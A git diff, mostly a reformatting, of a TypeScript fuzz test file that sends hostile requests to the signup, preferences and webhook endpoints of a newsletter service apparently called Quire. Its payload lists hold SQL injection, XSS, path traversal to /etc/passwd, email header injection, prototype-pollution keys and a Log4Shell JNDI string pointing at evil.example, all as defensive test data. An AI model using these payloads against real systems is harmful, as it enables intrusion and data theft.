@@ -1,9 +1,17 @@
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { checkEmail } from '../../src/core/email-address.js';
-import { createHarness, databaseKinds, type Harness } from '../support/harness.js';
 import { activeSubscriber, uniqueEmail } from '../support/factories.js';
-import { checkAnswer, insertActiveSubscriber, tableCounts, without, WEBHOOK_SECRET, webhookSignature, type Checked } from './support.js';
+import { createHarness, databaseKinds, type Harness } from '../support/harness.js';
+import {
+  type Checked,
+  checkAnswer,
+  insertActiveSubscriber,
+  tableCounts,
+  WEBHOOK_SECRET,
+  webhookSignature,
+  without,
+} from './support.js';
 
 /**
  * Property-based tests over every public endpoint that takes input. Each run sends one hostile request
@@ -21,41 +29,132 @@ const FORM = 'application/x-www-form-urlencoded';
 const ORIGIN = 'http://quire.test';
 
 const NASTY = [
-  '\u0000', 'a\u0000b', '\r\n', 'Ada\r\nBcc: x@evil.example', '\n', '\r', '\t', '\u000b', '\u001f', '\u007f', '\u0085', '\u2028', '\u2029', '\ufeff',
-  '\ud800', 'a\udfffb', '\u202e', '%00', '%0d%0a', '../../etc/passwd', "' or '1'='1", '"; drop table subscribers; --', '<script>alert(1)</script>',
-  '${jndi:ldap://evil.example/a}', '{{7*7}}', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'ＡＢＣ＠ｅｘａｍｐｌｅ．ｃｏｍ',
-  '🙂', '\u0301', 'x'.repeat(3000), ' ', '', 'null', 'true', 'on', 'release', 'updates', '=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=',
+  '\u0000',
+  'a\u0000b',
+  '\r\n',
+  'Ada\r\nBcc: x@evil.example',
+  '\n',
+  '\r',
+  '\t',
+  '\u000b',
+  '\u001f',
+  '\u007f',
+  '\u0085',
+  '\u2028',
+  '\u2029',
+  '\ufeff',
+  '\ud800',
+  'a\udfffb',
+  '\u202e',
+  '%00',
+  '%0d%0a',
+  '../../etc/passwd',
+  "' or '1'='1",
+  '"; drop table subscribers; --',
+  '<script>alert(1)</script>',
+  '${jndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  'ＡＢＣ＠ｅｘａｍｐｌｅ．ｃｏｍ',
+  '🙂',
+  '\u0301',
+  'x'.repeat(3000),
+  ' ',
+  '',
+  'null',
+  'true',
+  'on',
+  'release',
+  'updates',
+  '=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=',
 ];
 
 const nastyString = fc.oneof(
   fc.constantFrom(...NASTY),
   fc.string({ maxLength: 30 }),
   fc.string({ unit: 'binary', maxLength: 30 }),
-  fc.tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...NASTY), fc.string({ maxLength: 8 })).map(([a, b, c]) => a + b + c),
+  fc
+    .tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...NASTY), fc.string({ maxLength: 8 }))
+    .map(([a, b, c]) => a + b + c),
 );
 
 /** Addresses: plausible, IDN, Unicode, over-long, and hostile. `prefix` keeps each endpoint's addresses its own. */
-const addressFor = (prefix: string) => fc.oneof(
-  fc.nat().map((n) => `${prefix}.${process.pid}.${n}@example.com`),
-  fc.emailAddress(),
-  fc.constantFrom(
-    'reader@bücher.example', 'reader@例え.テスト', 'reader@xn--bcher-kva.example', 'ρeader@example.com', 'reader@example。com', 'Reader@EXAMPLE.COM',
-    'reader@ｅｘａｍｐｌｅ.com', ' reader@example.com ', 'reader@@example.com', 'reader@example', 'reader@127.0.0.1', 'reader@[127.0.0.1]',
-    '"quoted"@example.com', 'reader@example.com\r\nBcc: x@evil.example', 'reader@example.com, other@example.com', 'Reader <reader@example.com>',
-    'reader\u0000@example.com', 'reader@exa\u0000mple.com', 'reader@-example.com', 'reader@example.com.', `${'a'.repeat(64)}@example.com`,
-    `${'a'.repeat(65)}@example.com`, `a@${'b'.repeat(63)}.example.com`, `a@${'b'.repeat(64)}.example.com`, `${'a'.repeat(64)}@${`${'b'.repeat(60)}.`.repeat(3)}com`,
-  ),
-  fc.integer({ min: 255, max: 1500 }).map((n) => `${'a'.repeat(Math.max(1, n - 12))}@example.com`),
-  fc.integer({ min: 300, max: 400 }).map((n) => `reader@${`${'d'.repeat(40)}.`.repeat(Math.ceil(n / 41))}com`),
-  nastyString.map((s) => `${prefix}${s}@example.com`),
-  nastyString,
-);
+const addressFor = (prefix: string) =>
+  fc.oneof(
+    fc.nat().map((n) => `${prefix}.${process.pid}.${n}@example.com`),
+    fc.emailAddress(),
+    fc.constantFrom(
+      'reader@bücher.example',
+      'reader@例え.テスト',
+      'reader@xn--bcher-kva.example',
+      'ρeader@example.com',
+      'reader@example。com',
+      'Reader@EXAMPLE.COM',
+      'reader@ｅｘａｍｐｌｅ.com',
+      ' reader@example.com ',
+      'reader@@example.com',
+      'reader@example',
+      'reader@127.0.0.1',
+      'reader@[127.0.0.1]',
+      '"quoted"@example.com',
+      'reader@example.com\r\nBcc: x@evil.example',
+      'reader@example.com, other@example.com',
+      'Reader <reader@example.com>',
+      'reader\u0000@example.com',
+      'reader@exa\u0000mple.com',
+      'reader@-example.com',
+      'reader@example.com.',
+      `${'a'.repeat(64)}@example.com`,
+      `${'a'.repeat(65)}@example.com`,
+      `a@${'b'.repeat(63)}.example.com`,
+      `a@${'b'.repeat(64)}.example.com`,
+      `${'a'.repeat(64)}@${`${'b'.repeat(60)}.`.repeat(3)}com`,
+    ),
+    fc.integer({ min: 255, max: 1500 }).map((n) => `${'a'.repeat(Math.max(1, n - 12))}@example.com`),
+    fc.integer({ min: 300, max: 400 }).map((n) => `reader@${`${'d'.repeat(40)}.`.repeat(Math.ceil(n / 41))}com`),
+    nastyString.map((s) => `${prefix}${s}@example.com`),
+    nastyString,
+  );
 const address = addressFor('fuzz');
 
-const KNOWN_SIGNUP_KEYS = ['email', 'name', 'topics', 'consent', 'consent_version', 'source', 'locale', 'website', 'form_ts', 'cf-turnstile-response'];
+const KNOWN_SIGNUP_KEYS = [
+  'email',
+  'name',
+  'topics',
+  'consent',
+  'consent_version',
+  'source',
+  'locale',
+  'website',
+  'form_ts',
+  'cf-turnstile-response',
+];
 const hostileKey = fc.oneof(
   { weight: 4, arbitrary: fc.constantFrom(...KNOWN_SIGNUP_KEYS) },
-  { weight: 2, arbitrary: fc.constantFrom('__proto__', 'constructor', 'prototype', 'constructor.prototype', '__proto__.polluted', 'toString', 'valueOf', 'hasOwnProperty', 'status', 'id', 'email_hash', 'confirmed_at', 'topics[]', 'email[]', '') },
+  {
+    weight: 2,
+    arbitrary: fc.constantFrom(
+      '__proto__',
+      'constructor',
+      'prototype',
+      'constructor.prototype',
+      '__proto__.polluted',
+      'toString',
+      'valueOf',
+      'hasOwnProperty',
+      'status',
+      'id',
+      'email_hash',
+      'confirmed_at',
+      'topics[]',
+      'email[]',
+      '',
+    ),
+  },
   { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
 );
 
@@ -65,11 +164,33 @@ const valueText: fc.Arbitrary<string> = fc.letrec<{ value: string }>((tie) => ({
     { depthSize: 'small', withCrossShrink: true },
     nastyString.map((s) => JSON.stringify(s)),
     address.map((s) => JSON.stringify(s)),
-    fc.constantFrom('true', 'false', 'null', '0', '-0', '1', '2', '1.5', '1e400', '-1e400', '99999999999', '2147483648', '9007199254740993', '1e-400', '[]', '{}', '"1"', '"on"', '"true"'),
+    fc.constantFrom(
+      'true',
+      'false',
+      'null',
+      '0',
+      '-0',
+      '1',
+      '2',
+      '1.5',
+      '1e400',
+      '-1e400',
+      '99999999999',
+      '2147483648',
+      '9007199254740993',
+      '1e-400',
+      '[]',
+      '{}',
+      '"1"',
+      '"on"',
+      '"true"',
+    ),
     fc.integer().map(String),
     fc.double({ noNaN: true, noDefaultInfinity: true }).map((d) => JSON.stringify(d)),
     fc.array(tie('value'), { maxLength: 4 }).map((items) => `[${items.join(',')}]`),
-    fc.array(fc.tuple(hostileKey, tie('value')), { maxLength: 3 }).map((entries) => `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${v}`).join(',')}}`),
+    fc
+      .array(fc.tuple(hostileKey, tie('value')), { maxLength: 3 })
+      .map((entries) => `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${v}`).join(',')}}`),
   ),
 })).value;
 
@@ -83,14 +204,23 @@ const objectText = (base: [string, string][]) =>
   );
 
 /** A signup body that starts valid (or not) and carries hostile fields. */
-const signupJson = fc
-  .tuple(fc.boolean(), fc.nat())
-  .chain(([valid, n]) => objectText(valid ? [['email', JSON.stringify(`fuzz.json.${process.pid}.${n}@example.com`)], ['consent', 'true']] : []));
+const signupJson = fc.tuple(fc.boolean(), fc.nat()).chain(([valid, n]) =>
+  objectText(
+    valid
+      ? [
+          ['email', JSON.stringify(`fuzz.json.${process.pid}.${n}@example.com`)],
+          ['consent', 'true'],
+        ]
+      : [],
+  ),
+);
 
 /** Malformed JSON: random text, valid JSON cut short or with a byte changed, raw bytes (invalid UTF-8). */
 const malformedJson = fc.oneof(
   fc.string({ maxLength: 200 }).map((s) => Buffer.from(s, 'utf8')),
-  fc.tuple(signupJson, fc.nat()).map(([text, cut]) => Buffer.from(text.slice(0, cut % Math.max(1, text.length)), 'utf8')),
+  fc
+    .tuple(signupJson, fc.nat())
+    .map(([text, cut]) => Buffer.from(text.slice(0, cut % Math.max(1, text.length)), 'utf8')),
   fc.tuple(signupJson, fc.nat(), fc.integer({ min: 0, max: 255 })).map(([text, at, byte]) => {
     const b = Buffer.from(text, 'utf8');
     if (b.length) b[at % b.length] = byte;
@@ -115,18 +245,57 @@ const formText = (base: [string, string][]) =>
     .array(
       fc.oneof(
         fc.tuple(hostileKey, fc.oneof(nastyString, address)).map(([k, v]) => `${safeEncode(k)}=${safeEncode(v)}`),
-        fc.constantFrom('%', '%zz', 'email=%ff%fe%40example.com', 'name=%00', 'name=Ada%0D%0ABcc:%20x@evil.example', '%E0%A4%A', '&&&', '==', 'a=b=c',
-          '__proto__[polluted]=1', 'constructor[prototype][polluted]=1', '__proto__=1', 'topics[]=release', 'topics[]=nope', 'topics=release&topics=updates',
-          'consent=on&consent=off', 'email=a%40example.com&email=b%40example.com', 'intent=erase&intent=save', 'name=' + 'x'.repeat(300)),
+        fc.constantFrom(
+          '%',
+          '%zz',
+          'email=%ff%fe%40example.com',
+          'name=%00',
+          'name=Ada%0D%0ABcc:%20x@evil.example',
+          '%E0%A4%A',
+          '&&&',
+          '==',
+          'a=b=c',
+          '__proto__[polluted]=1',
+          'constructor[prototype][polluted]=1',
+          '__proto__=1',
+          'topics[]=release',
+          'topics[]=nope',
+          'topics=release&topics=updates',
+          'consent=on&consent=off',
+          'email=a%40example.com&email=b%40example.com',
+          'intent=erase&intent=save',
+          'name=' + 'x'.repeat(300),
+        ),
       ),
       { maxLength: 8 },
     )
     .map((parts) => [...base.map(([k, v]) => `${k}=${safeEncode(v)}`), ...parts].join('&'));
 
 const CONTENT_TYPES = [
-  'application/json', 'application/json; charset=utf-8', 'APPLICATION/JSON', 'application/vnd.api+json', 'application/jsonp', 'application/json-seq',
-  FORM, `${FORM}; charset=iso-8859-1`, 'multipart/form-data', 'multipart/form-data; boundary=x', 'multipart/mixed; boundary=x', 'text/plain', 'text/html',
-  'application/xml', 'text/xml', 'application/octet-stream', 'image/png', '*/*', 'application', 'json', '', ';', 'application/json;;;;', ' application/json',
+  'application/json',
+  'application/json; charset=utf-8',
+  'APPLICATION/JSON',
+  'application/vnd.api+json',
+  'application/jsonp',
+  'application/json-seq',
+  FORM,
+  `${FORM}; charset=iso-8859-1`,
+  'multipart/form-data',
+  'multipart/form-data; boundary=x',
+  'multipart/mixed; boundary=x',
+  'text/plain',
+  'text/html',
+  'application/xml',
+  'text/xml',
+  'application/octet-stream',
+  'image/png',
+  '*/*',
+  'application',
+  'json',
+  '',
+  ';',
+  'application/json;;;;',
+  ' application/json',
 ];
 const ACCEPTS = ['application/json', 'text/html', '*/*', 'text/html,application/xhtml+xml', undefined];
 
@@ -190,9 +359,13 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
     it('JSON objects with hostile keys and values: no 5xx, the envelope, nothing stored when refused', async () => {
       await fc.assert(
         fc.asyncProperty(signupJson, fc.constantFrom(...ACCEPTS), async (body, accept) => {
-          await probe('/v1/subscriptions', { method: 'POST', body, headers: { 'content-type': 'application/json', ...(accept ? { accept } : {}) } }, {
-            allowed: [202, 400, 422],
-          });
+          await probe(
+            '/v1/subscriptions',
+            { method: 'POST', body, headers: { 'content-type': 'application/json', ...(accept ? { accept } : {}) } },
+            {
+              allowed: [202, 400, 422],
+            },
+          );
         }),
         MORE_RUNS,
       );
@@ -201,7 +374,11 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
     it('malformed JSON and invalid UTF-8 answer 400 or 422 and store nothing', async () => {
       await fc.assert(
         fc.asyncProperty(malformedJson, async (body) => {
-          await probe('/v1/subscriptions', { method: 'POST', body, headers: JSON_HEADERS }, { allowed: [202, 400, 422] });
+          await probe(
+            '/v1/subscriptions',
+            { method: 'POST', body, headers: JSON_HEADERS },
+            { allowed: [202, 400, 422] },
+          );
         }),
         RUNS,
       );
@@ -210,13 +387,37 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
     it('urlencoded form posts (browser or script) with broken escapes and hostile fields', async () => {
       await fc.assert(
         fc.asyncProperty(
-          fc.boolean().chain((valid) => formText(valid ? [['email', `fuzz.form.${process.pid}.${ipSeq}@example.com`], ['consent', 'on']] : [])),
+          fc.boolean().chain((valid) =>
+            formText(
+              valid
+                ? [
+                    ['email', `fuzz.form.${process.pid}.${ipSeq}@example.com`],
+                    ['consent', 'on'],
+                  ]
+                : [],
+            ),
+          ),
           fc.constantFrom(...ACCEPTS),
-          fc.option(fc.oneof(fc.constantFrom('https://evil.example/page', `${ORIGIN}/somewhere?x=1#y`, 'not a url', 'javascript:alert(1)', '//evil.example'), fc.webUrl())),
+          fc.option(
+            fc.oneof(
+              fc.constantFrom(
+                'https://evil.example/page',
+                `${ORIGIN}/somewhere?x=1#y`,
+                'not a url',
+                'javascript:alert(1)',
+                '//evil.example',
+              ),
+              fc.webUrl(),
+            ),
+          ),
           async (body, accept, referer) => {
             await probe(
               '/v1/subscriptions',
-              { method: 'POST', body, headers: { 'content-type': FORM, ...(accept ? { accept } : {}), ...(referer ? { referer } : {}) } },
+              {
+                method: 'POST',
+                body,
+                headers: { 'content-type': FORM, ...(accept ? { accept } : {}), ...(referer ? { referer } : {}) },
+              },
               { allowed: [202, 303, 400, 422], accepted: signupAccepted },
             );
           },
@@ -233,18 +434,34 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
           for (const [k, v] of fields) form.append(k, v);
           return { body: form as BodyInit, type: undefined as string | undefined };
         }),
-        fc.tuple(fc.constantFrom('', 'x', 'zzz', '"quoted"', 'a'.repeat(100)), fc.string({ maxLength: 200 }), fc.boolean()).map(([boundary, text, declared]) => ({
-          body: `--${boundary}\r\nContent-Disposition: form-data; name="email"\r\n\r\n${text}${declared ? `\r\n--${boundary}--\r\n` : ''}`,
-          type: `multipart/form-data${declared ? `; boundary=${boundary}` : ''}`,
-        })),
-        fc.uint8Array({ maxLength: 200 }).map((a) => ({ body: Buffer.from(a) as BodyInit, type: 'multipart/form-data; boundary=x' })),
+        fc
+          .tuple(
+            fc.constantFrom('', 'x', 'zzz', '"quoted"', 'a'.repeat(100)),
+            fc.string({ maxLength: 200 }),
+            fc.boolean(),
+          )
+          .map(([boundary, text, declared]) => ({
+            body: `--${boundary}\r\nContent-Disposition: form-data; name="email"\r\n\r\n${text}${declared ? `\r\n--${boundary}--\r\n` : ''}`,
+            type: `multipart/form-data${declared ? `; boundary=${boundary}` : ''}`,
+          })),
+        fc
+          .uint8Array({ maxLength: 200 })
+          .map((a) => ({ body: Buffer.from(a) as BodyInit, type: 'multipart/form-data; boundary=x' })),
       );
       await fc.assert(
         fc.asyncProperty(multipart, fc.constantFrom(...ACCEPTS), async ({ body, type }, accept) => {
-          await probe('/v1/subscriptions', { method: 'POST', body, headers: { ...(type ? { 'content-type': type } : {}), ...(accept ? { accept } : {}) } }, {
-            allowed: [202, 303, 400, 415, 422],
-            accepted: signupAccepted,
-          });
+          await probe(
+            '/v1/subscriptions',
+            {
+              method: 'POST',
+              body,
+              headers: { ...(type ? { 'content-type': type } : {}), ...(accept ? { accept } : {}) },
+            },
+            {
+              allowed: [202, 303, 400, 415, 422],
+              accepted: signupAccepted,
+            },
+          );
         }),
         RUNS,
       );
@@ -252,8 +469,20 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
 
     it('a malformed multipart body is a 400 in the envelope, not a 500', async () => {
       // Regression: readBody let parseBody's "Failed to parse body as FormData" TypeError become a 500.
-      for (const type of ['multipart/form-data', 'multipart/form-data; boundary=zzz', 'multipart/form-data; boundary=']) {
-        const a = await probe('/v1/subscriptions', { method: 'POST', body: '--zzz\r\nContent-Disposition: form-data; name="email"\r\n\r\nabc', headers: { 'content-type': type, accept: 'application/json' } }, { allowed: [400] });
+      for (const type of [
+        'multipart/form-data',
+        'multipart/form-data; boundary=zzz',
+        'multipart/form-data; boundary=',
+      ]) {
+        const a = await probe(
+          '/v1/subscriptions',
+          {
+            method: 'POST',
+            body: '--zzz\r\nContent-Disposition: form-data; name="email"\r\n\r\nabc',
+            headers: { 'content-type': type, accept: 'application/json' },
+          },
+          { allowed: [400] },
+        );
         expect(a.json?.error?.code).toBe('invalid_body');
       }
     });
@@ -261,7 +490,15 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
     it('a consent_version beyond a 32-bit integer is a 422, not a 500', async () => {
       // Regression: consent_version ≥ 2^31 reached the int4 column and failed the query with a 500.
       for (const v of ['2147483648', '99999999999', '"2147483648"']) {
-        const a = await probe('/v1/subscriptions', { method: 'POST', body: `{"email":"${uniqueEmail('cv')}","consent":true,"consent_version":${v}}`, headers: JSON_HEADERS }, { allowed: [422] });
+        const a = await probe(
+          '/v1/subscriptions',
+          {
+            method: 'POST',
+            body: `{"email":"${uniqueEmail('cv')}","consent":true,"consent_version":${v}}`,
+            headers: JSON_HEADERS,
+          },
+          { allowed: [422] },
+        );
         expect(a.json?.error?.fields).toEqual([expect.objectContaining({ path: 'consent_version' })]);
       }
     });
@@ -269,38 +506,98 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
     it('a request refused for an unknown topic or consent version spends no rate-limit budget', async () => {
       // Regression: topics and consent version were checked after both limits were hit, so a 422 stored counters.
       for (const body of [{ topics: ['gossip'] }, { consent_version: 999 }]) {
-        await probe('/v1/subscriptions', { method: 'POST', body: JSON.stringify({ email: uniqueEmail('budget'), consent: true, ...body }), headers: JSON_HEADERS }, { allowed: [422] });
+        await probe(
+          '/v1/subscriptions',
+          {
+            method: 'POST',
+            body: JSON.stringify({ email: uniqueEmail('budget'), consent: true, ...body }),
+            headers: JSON_HEADERS,
+          },
+          { allowed: [422] },
+        );
       }
     });
 
     it('duplicate keys: the last one wins, consistently, and one request makes at most one subscriber', async () => {
       const first = uniqueEmail('dup-first');
       const last = uniqueEmail('dup-last');
-      const res = await h.request('/v1/subscriptions', { method: 'POST', headers: JSON_HEADERS, body: `{"email":"${first}","consent":true,"email":"${last}"}` });
+      const res = await h.request('/v1/subscriptions', {
+        method: 'POST',
+        headers: JSON_HEADERS,
+        body: `{"email":"${first}","consent":true,"email":"${last}"}`,
+      });
       expect(res.status).toBe(202);
       expect(await h.query('select 1 from subscribers where lower(email) = lower($1)', [first])).toHaveLength(0);
       expect(await h.query('select 1 from subscribers where lower(email) = lower($1)', [last])).toHaveLength(1);
-      const refused = await h.request('/v1/subscriptions', { method: 'POST', headers: JSON_HEADERS, body: `{"email":"${uniqueEmail('dup')}","consent":true,"consent":false}` });
+      const refused = await h.request('/v1/subscriptions', {
+        method: 'POST',
+        headers: JSON_HEADERS,
+        body: `{"email":"${uniqueEmail('dup')}","consent":true,"consent":false}`,
+      });
       expect((await checkAnswer(refused)).json?.error?.code).toBe('consent_required');
     });
 
     it.each([
-      { label: 'an IDN domain', email: 'reader.idn@bücher.example', status: 202, stored: 'reader.idn@xn--bcher-kva.example' },
-      { label: 'a Japanese IDN domain', email: 'reader.jp@例え.テスト', status: 202, stored: 'reader.jp@xn--r8jz45g.xn--zckzah' },
-      { label: 'full-width letters in the domain', email: 'reader.fw@ｅｘａｍｐｌｅ.com', status: 202, stored: 'reader.fw@example.com' },
-      { label: 'an ideographic full stop', email: 'reader.dot@example。com', status: 202, stored: 'reader.dot@example.com' },
-      { label: 'a Unicode local part (needs SMTPUTF8, not offered)', email: 'ρeader@example.com', status: 422, stored: null },
+      {
+        label: 'an IDN domain',
+        email: 'reader.idn@bücher.example',
+        status: 202,
+        stored: 'reader.idn@xn--bcher-kva.example',
+      },
+      {
+        label: 'a Japanese IDN domain',
+        email: 'reader.jp@例え.テスト',
+        status: 202,
+        stored: 'reader.jp@xn--r8jz45g.xn--zckzah',
+      },
+      {
+        label: 'full-width letters in the domain',
+        email: 'reader.fw@ｅｘａｍｐｌｅ.com',
+        status: 202,
+        stored: 'reader.fw@example.com',
+      },
+      {
+        label: 'an ideographic full stop',
+        email: 'reader.dot@example。com',
+        status: 202,
+        stored: 'reader.dot@example.com',
+      },
+      {
+        label: 'a Unicode local part (needs SMTPUTF8, not offered)',
+        email: 'ρeader@example.com',
+        status: 422,
+        stored: null,
+      },
       { label: 'a full-width @', email: 'readerＡ＠example.com', status: 422, stored: null },
-      { label: 'exactly 254 characters', email: `${'a'.repeat(64)}@${`${'b'.repeat(62)}.`.repeat(2)}${'c'.repeat(59)}.com`, status: 202, stored: 'same' },
-      { label: '255 characters', email: `${'a'.repeat(64)}@${`${'b'.repeat(62)}.`.repeat(2)}${'c'.repeat(60)}.com`, status: 422, stored: null },
+      {
+        label: 'exactly 254 characters',
+        email: `${'a'.repeat(64)}@${`${'b'.repeat(62)}.`.repeat(2)}${'c'.repeat(59)}.com`,
+        status: 202,
+        stored: 'same',
+      },
+      {
+        label: '255 characters',
+        email: `${'a'.repeat(64)}@${`${'b'.repeat(62)}.`.repeat(2)}${'c'.repeat(60)}.com`,
+        status: 422,
+        stored: null,
+      },
       { label: '321 characters', email: `${'a'.repeat(309)}@example.com`, status: 422, stored: null },
       { label: 'a 65-character local part', email: `${'a'.repeat(65)}@example.com`, status: 422, stored: null },
       { label: 'a 64-character label', email: `reader@${'b'.repeat(64)}.com`, status: 422, stored: null },
       { label: '1000 characters', email: `${'a'.repeat(988)}@example.com`, status: 422, stored: null },
-      { label: '1001 characters (over the schema limit)', email: `${'a'.repeat(989)}@example.com`, status: 422, stored: null },
+      {
+        label: '1001 characters (over the schema limit)',
+        email: `${'a'.repeat(989)}@example.com`,
+        status: 422,
+        stored: null,
+      },
     ])('an address with $label answers $status and is stored normalised', async ({ label, email, status, stored }) => {
       if (/^(exactly )?\d+ characters/.test(label)) expect(email.length).toBe(Number(/\d+/.exec(label)![0]));
-      const answer = await probe('/v1/subscriptions', { method: 'POST', body: JSON.stringify({ email, consent: true }), headers: JSON_HEADERS }, { allowed: [status] });
+      const answer = await probe(
+        '/v1/subscriptions',
+        { method: 'POST', body: JSON.stringify({ email, consent: true }), headers: JSON_HEADERS },
+        { allowed: [status] },
+      );
       if (status === 422) expect(answer.json?.error?.code).toBe('invalid_email');
       if (stored) {
         const expected = stored === 'same' ? email : stored;
@@ -325,14 +622,67 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
     beforeAll(async () => {
       const fresh = async () => insertActiveSubscriber(h, uniqueEmail('ct'));
       endpoints = {
-        signup: { method: 'POST', path: async () => '/v1/subscriptions', accepts: 'any', type: 'application/json', allowed: [202, 303, 400, 415, 422] },
-        'preferences PUT': { method: 'PUT', path: async () => `/v1/preferences/${(await fresh()).preferencesToken}`, accepts: 'json', type: 'application/json', allowed: [200, 400, 415, 422] },
-        erase: { method: 'POST', path: async () => `/v1/preferences/${(await fresh()).preferencesToken}/erase`, accepts: 'json', type: 'application/json', allowed: [200, 400, 415, 422] },
-        'preference page': { method: 'POST', path: async () => `/preferences/${(await fresh()).preferencesToken}`, accepts: 'form', type: FORM, headers: { origin: ORIGIN }, allowed: [200, 303, 400, 404, 415, 422] },
-        resubscribe: { method: 'POST', path: async () => `/unsubscribe/${(await fresh()).unsubscribeToken}/resubscribe`, accepts: 'form', type: FORM, headers: { origin: ORIGIN }, allowed: [200, 400, 415] },
-        manage: { method: 'POST', path: async () => '/manage', accepts: 'form', type: FORM, headers: { origin: ORIGIN }, allowed: [200, 400, 415, 422] },
-        'resend-confirmation': { method: 'POST', path: async () => '/resend-confirmation', accepts: 'form', type: FORM, headers: { origin: ORIGIN }, allowed: [200, 400, 415, 422] },
-        webhook: { method: 'POST', path: async () => '/webhooks/bounces', accepts: 'any', type: 'application/json', sign: true, allowed: [200, 400, 422] },
+        signup: {
+          method: 'POST',
+          path: async () => '/v1/subscriptions',
+          accepts: 'any',
+          type: 'application/json',
+          allowed: [202, 303, 400, 415, 422],
+        },
+        'preferences PUT': {
+          method: 'PUT',
+          path: async () => `/v1/preferences/${(await fresh()).preferencesToken}`,
+          accepts: 'json',
+          type: 'application/json',
+          allowed: [200, 400, 415, 422],
+        },
+        erase: {
+          method: 'POST',
+          path: async () => `/v1/preferences/${(await fresh()).preferencesToken}/erase`,
+          accepts: 'json',
+          type: 'application/json',
+          allowed: [200, 400, 415, 422],
+        },
+        'preference page': {
+          method: 'POST',
+          path: async () => `/preferences/${(await fresh()).preferencesToken}`,
+          accepts: 'form',
+          type: FORM,
+          headers: { origin: ORIGIN },
+          allowed: [200, 303, 400, 404, 415, 422],
+        },
+        resubscribe: {
+          method: 'POST',
+          path: async () => `/unsubscribe/${(await fresh()).unsubscribeToken}/resubscribe`,
+          accepts: 'form',
+          type: FORM,
+          headers: { origin: ORIGIN },
+          allowed: [200, 400, 415],
+        },
+        manage: {
+          method: 'POST',
+          path: async () => '/manage',
+          accepts: 'form',
+          type: FORM,
+          headers: { origin: ORIGIN },
+          allowed: [200, 400, 415, 422],
+        },
+        'resend-confirmation': {
+          method: 'POST',
+          path: async () => '/resend-confirmation',
+          accepts: 'form',
+          type: FORM,
+          headers: { origin: ORIGIN },
+          allowed: [200, 400, 415, 422],
+        },
+        webhook: {
+          method: 'POST',
+          path: async () => '/webhooks/bounces',
+          accepts: 'any',
+          type: 'application/json',
+          sign: true,
+          allowed: [200, 400, 422],
+        },
       };
     });
 
@@ -341,17 +691,47 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
     const isForm = (type: string) => [FORM, 'multipart/form-data'].includes(essence(type));
 
     it('a content type the endpoint does not take is a 415 in the envelope, and changes nothing', async () => {
-      const names = ['signup', 'preferences PUT', 'erase', 'preference page', 'resubscribe', 'manage', 'resend-confirmation', 'webhook'];
+      const names = [
+        'signup',
+        'preferences PUT',
+        'erase',
+        'preference page',
+        'resubscribe',
+        'manage',
+        'resend-confirmation',
+        'webhook',
+      ];
       await fc.assert(
-        fc.asyncProperty(fc.constantFrom(...names), fc.constantFrom(...CONTENT_TYPES), fc.oneof(signupJson, formText([])), async (name, type, body) => {
-          const e = endpoints[name]!;
-          const path = await e.path();
-          const headers: Record<string, string> = { accept: 'application/json', ...e.headers, ...(type ? { 'content-type': type } : {}) };
-          if (e.sign) headers['x-quire-signature'] = webhookSignature(h, body);
-          const fits = e.accepts === 'any' ? isJson(type) || isForm(type) || e.sign : e.accepts === 'json' ? isJson(type) : isForm(type);
-          const answer = await probe(path, { method: e.method, body, headers }, { allowed: fits ? e.allowed : [415], accepted: name === 'signup' ? signupAccepted : (a) => a.status < 400 });
-          if (!fits) expect(answer.json?.error?.code).toBe('unsupported_media_type');
-        }),
+        fc.asyncProperty(
+          fc.constantFrom(...names),
+          fc.constantFrom(...CONTENT_TYPES),
+          fc.oneof(signupJson, formText([])),
+          async (name, type, body) => {
+            const e = endpoints[name]!;
+            const path = await e.path();
+            const headers: Record<string, string> = {
+              accept: 'application/json',
+              ...e.headers,
+              ...(type ? { 'content-type': type } : {}),
+            };
+            if (e.sign) headers['x-quire-signature'] = webhookSignature(h, body);
+            const fits =
+              e.accepts === 'any'
+                ? isJson(type) || isForm(type) || e.sign
+                : e.accepts === 'json'
+                  ? isJson(type)
+                  : isForm(type);
+            const answer = await probe(
+              path,
+              { method: e.method, body, headers },
+              {
+                allowed: fits ? e.allowed : [415],
+                accepted: name === 'signup' ? signupAccepted : (a) => a.status < 400,
+              },
+            );
+            if (!fits) expect(answer.json?.error?.code).toBe('unsupported_media_type');
+          },
+        ),
         MORE_RUNS,
       );
     });
@@ -363,12 +743,16 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
       ['streamed', 1024 * 1024],
     ])('a body over 64 KiB (%s, %i bytes) is a 413 on every endpoint, and changes nothing', async (how, size) => {
       const extra = {
-        'one-click unsubscribe': async () => `/unsubscribe/${(await insertActiveSubscriber(h, uniqueEmail('big'))).unsubscribeToken}`,
+        'one-click unsubscribe': async () =>
+          `/unsubscribe/${(await insertActiveSubscriber(h, uniqueEmail('big'))).unsubscribeToken}`,
         confirm: async () => '/confirm/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
       };
       const all: [string, Pick<Endpoint, 'method' | 'path' | 'type' | 'headers' | 'sign'>][] = [
         ...Object.entries(endpoints),
-        ...Object.entries(extra).map(([name, path]) => [name, { method: 'POST', path, type: FORM }] as [string, Pick<Endpoint, 'method' | 'path' | 'type'>]),
+        ...Object.entries(extra).map(
+          ([name, path]) =>
+            [name, { method: 'POST', path, type: FORM }] as [string, Pick<Endpoint, 'method' | 'path' | 'type'>],
+        ),
       ];
